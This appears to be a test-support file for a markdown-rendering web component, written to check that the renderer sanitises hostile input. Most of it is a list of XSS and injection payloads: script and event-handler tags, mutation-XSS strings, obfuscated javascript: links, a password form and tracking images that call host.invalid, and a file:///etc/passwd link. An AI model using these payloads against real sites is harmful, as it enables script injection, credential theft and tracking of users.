// A widget of nothing but one text, and everything that people try to smuggle in by one.
import { html, type PropertyValues } from 'lit'

import { controlStyles } from '../../../components/base/controls.styles.ts'
import { SaElement } from '../../../components/base/element.ts'
import { Markdown, type MarkdownOptions } from '../../../components/base/markdown/markdown.ts'
import { markdownStyles } from '../../../components/base/markdown/markdown.styles.ts'
import { until } from '../base/support.ts'

class Sample extends SaElement {
  static override styles = [SaElement.styles, controlStyles, markdownStyles]
  source = ''
  options: MarkdownOptions = {}
  drawings = 0
  readonly #markdown = new Markdown(this)
  protected override render() {
    return html`<div class="base" lang=${this.language}>${this.#markdown.render(this.source, this.options)}</div>`
  }
  protected override updated(changed: PropertyValues): void {
    super.updated(changed)
    this.drawings += 1
  }
}
customElements.define('sa-markdown-sample', Sample)

export type { Sample }

let place: HTMLElement | undefined

export function clean(): void {
  place?.remove()
  place = undefined
  document.documentElement.dir = 'ltr'
  document.documentElement.style.colorScheme = 'light'
}

/** Shows a text and waits until it is drawn. */
export async function write(source: string, options: MarkdownOptions = {}, { width = 700, scheme = 'light', dir = 'ltr' } = {}): Promise<Sample> {
  clean()
  document.documentElement.dir = dir
  document.documentElement.style.colorScheme = scheme
  document.body.style.background = scheme === 'dark' ? '#14181f' : '#fff'
  place = document.createElement('main')
  place.style.inlineSize = `${width}px`
  const element = document.createElement('sa-markdown-sample') as Sample
  Object.assign(element, { source, options })
  place.append(element)
  document.body.append(place)
  await until('the text', () => element.shadowRoot?.querySelector('.markdown:not(.plain)') !== null)
  return element
}

/** What is drawn. */
export const drawn = (element: Sample) => element.shadowRoot!.querySelector('.markdown')!

/** The only elements that a text becomes. */
export const known = new Set(['div', 'p', 'span', 'pre', 'code', 'blockquote', 'ol', 'ul', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr', 'strong', 'em', 'del', 'br', 'a', 'bdi'])

/** Texts that do something, or call somebody, where they become HTML. `host.invalid` is asked for by whatever is loaded. */
export const attacks: Readonly<Record<string, string>> = {
  'a script': '<script>window.broken = true</script>',
  'an image that fails': '<img src=x onerror="window.broken = true">',
  'a picture with a handler, in the middle of words': 'See <img src=https://host.invalid/x onerror=window.broken=true> here',
  'a vector image': '<svg onload="window.broken = true"><script>window.broken = true</script></svg>',
  'a vector image that names a style': '<svg><style><img src=x onerror="window.broken=true"></style></svg>',
  'mathematics that holds a table': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.broken=true&gt;">',
  'a frame': '<iframe src="javascript:parent.broken = true"></iframe>',
  'a frame with its own document': '<iframe srcdoc="<script>parent.broken=true</script>"></iframe>',
  'a form that asks for a password': '<form action="https://host.invalid/"><input type="password" name="p"><button>Sign in</button></form>',
  'a layer over the page': '<div style="position:fixed;inset:0;background:url(https://host.invalid/a)">x</div>',
  'a style sheet': '<style>@import "https://host.invalid/a.css"; * { display: none }</style>',
  'a link to a style sheet': '<link rel="stylesheet" href="https://host.invalid/a.css">',
  'a base address': '<base href="https://host.invalid/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://host.invalid/">',
  'an object and an embed': '<object data="https://host.invalid/a"></object><embed src="https://host.invalid/b">',
  'a video and its source': '<video autoplay src="https://host.invalid/a"><source onerror="window.broken=true"></video>',
  'an element of ours': '<sa-portal base-url="https://host.invalid"></sa-portal>',
  'names that a script looks for': '<a id="portal"></a><a id="portal" name="scope"></a>',
  'an open comment': '<!-- <img src=x onerror=window.broken=true>',
  'a document type and a section': '<!DOCTYPE x [<!ENTITY a "b">]><![CDATA[<script>window.broken=true</script>]]>',
  'a script as an address': '[read](javascript:window.broken=true)',
  'a script in mixed case': '[read](JaVaScRiPt:window.broken=true)',
  'a script behind entities': '[read](&#106;&#x61;vascript&colon;window.broken=true) [again](javascript&#58;window.broken=true)',
  'a script with a line end in it': '[read](<java\nscript:window.broken=true>) [again](java&#10;script:window.broken=true) [tab](java&#9;script:window.broken=true)',
  'a script behind a control character': '[read](\u0001javascript:window.broken=true) [again](&#1;javascript:window.broken=true)',
  'a script as a reference': '[read][a]\n\n[a]: javascript:window.broken=true',
  'a script between angle brackets': '<javascript:window.broken=true>',
  'older scripts and data': '[a](vbscript:x) [b](data:text/html,<script>window.broken=true</script>) [c](blob:https://a/b) [d](file:///etc/passwd)',
  'an address without a scheme': '[a](//host.invalid/x) [b](/settings?delete=1) [c](#portal) [d](sign-out)',
  'an address with a name before it': '[a](https://bank.example@host.invalid/) [b](https://user:secret@host.invalid/)',
  'an image from elsewhere': '![a](https://host.invalid/pixel.png) ![b](//host.invalid/p.png) ![c](data:image/svg+xml;base64,PHN2Zy8+) ![d](javascript:window.broken=true)',
  'an image in a link': '[![a](https://host.invalid/pixel.png)](https://host.invalid/)',
  'handlers in a title': '[a](https://a.example "x\\" onmouseover=\\"window.broken=true") ![b](https://host.invalid/a "x\' onerror=\'window.broken=true")',
  'handlers in the language of a code': '```js" onmouseover="window.broken=true\nx\n```',
  'a table of scripts': '| <script>window.broken=true</script> | [x](javascript:window.broken=true) |\n|---|---|\n| <img src=x onerror=window.broken=true> | ![x](https://host.invalid/t.png) |',
  'marks of a template': '${window.broken=true} {{constructor.constructor("window.broken=true")()}} <!--?lit$123456$--> ?lit$0$',
  'a template that closes itself': '</div></template></script><script>window.broken=true</script>',
  'bytes that are no letters': '\u0000<script\u0000>window.broken=true</script\u0000>\ufeff\ud800',
}
